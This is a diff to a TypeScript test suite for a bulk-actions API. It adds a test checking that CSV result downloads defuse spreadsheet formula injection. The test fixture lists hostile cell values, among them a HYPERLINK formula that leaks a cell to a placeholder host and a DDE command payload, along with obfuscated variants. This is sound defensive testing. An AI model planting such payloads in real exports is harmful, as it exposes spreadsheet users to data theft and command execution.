@@ -31,6 +31,12 @@ async function ended(config: Record<string, unknown> = {}): Promise<string> {
   await eventually('it is dispatched', async () => {
     return (await harness.database.actions.findOne({ _id: actionId }))?.dispatch.done === true;
   });
+  await withOutcomes(actionId);
+  return actionId;
+}
+
+/** Writes the logs of a dispatched action, and its end, as stats-aggregator would. */
+async function withOutcomes(actionId: string): Promise<void> {
   const batches = await harness.database.stagedBatches.find({ actionId }).toArray();
   const counts = { success: 0, failure: 0, skipped: 0 };
   for (const { _id, batchNo, partition, entities } of batches) {
@@ -54,7 +60,6 @@ async function ended(config: Record<string, unknown> = {}): Promise<string> {
     { _id: actionId },
     { $set: { status: 'completed', counts, finishedAt: new Date() } },
   );
-  return actionId;
 }
 
 const retry = (actionId: string) => harness.send('POST', `/bulk-actions/${actionId}/retry`);
@@ -121,6 +126,30 @@ describe('POST /bulk-actions/:id/retry', () => {
   });
 });
 
+const UPDATE_CONFIG = encodeURIComponent('{}');
+/** Ids and refs that spreadsheets run. */
+const FORMULAS = [
+  '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
+  '@SUM(1+9)',
+  '+1-1',
+  '-2+3',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  "=cmd|' /C calc'!A0",
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠A1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '\ufeff=1+1',
+  '"=1+1',
+  'a;=1+1',
+  'a\t+1',
+  'plain',
+].map((text) => ({ id: text, ref: text }));
+
 const RESULTS = ['results.csv', 'results.ndjson'];
 const asRows = (text: string): LogEntry[] =>
   text
@@ -162,6 +191,35 @@ describe('results', () => {
         at,
       })),
     );
+  });
+
+  it('as CSV start no formula in a spreadsheet, and are exact when they are asked for', async () => {
+    const answer = await fetch(`${harness.url}/bulk-actions?actionType=update&config=${UPDATE_CONFIG}`, {
+      method: 'POST',
+      headers: { 'x-account-id': 'acme', 'content-type': 'application/x-ndjson' },
+      body: FORMULAS.map((entity) => `${JSON.stringify(entity)}\n`).join(''),
+    });
+    const body = (await answer.json()) as { data?: { actionId: string } };
+    expect([answer.status, body]).toMatchObject([202, {}]);
+    const actionId = body.data!.actionId;
+    await eventually('it is dispatched', async () => {
+      return (await harness.database.actions.findOne({ _id: actionId }))?.dispatch.done === true;
+    });
+    await withOutcomes(actionId);
+
+    const exact = await download(`/bulk-actions/${actionId}/results.csv?exact=true`);
+    const values = (text: string): string[][] =>
+      parse<Record<string, string>>(text, { columns: true }).map(({ id, ref }) => [id!, ref!]);
+    const sent = FORMULAS.map(({ id, ref }) => [id, ref]);
+    expect(values(exact.text)).toEqual(sent);
+    const { text } = await download(`/bulk-actions/${actionId}/results.csv`);
+    // Some spreadsheets split at commas, others at semicolons and tabs wherever they are.
+    const cells = [...parse(text).flat(), ...text.split(/[;\t\r\n]/)];
+    expect(cells.filter((cell) => /^[\s\p{C}"]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
+    // Nothing but apostrophes is added.
+    const bare = (all: string[][]): string[][] =>
+      all.map((row) => row.map((cell) => cell.replaceAll("'", '')));
+    expect(bare(values(text))).toEqual(bare(sent));
   });
 
   it.each(STATUSES.slice(1))('of one type: %s', async (type) => {
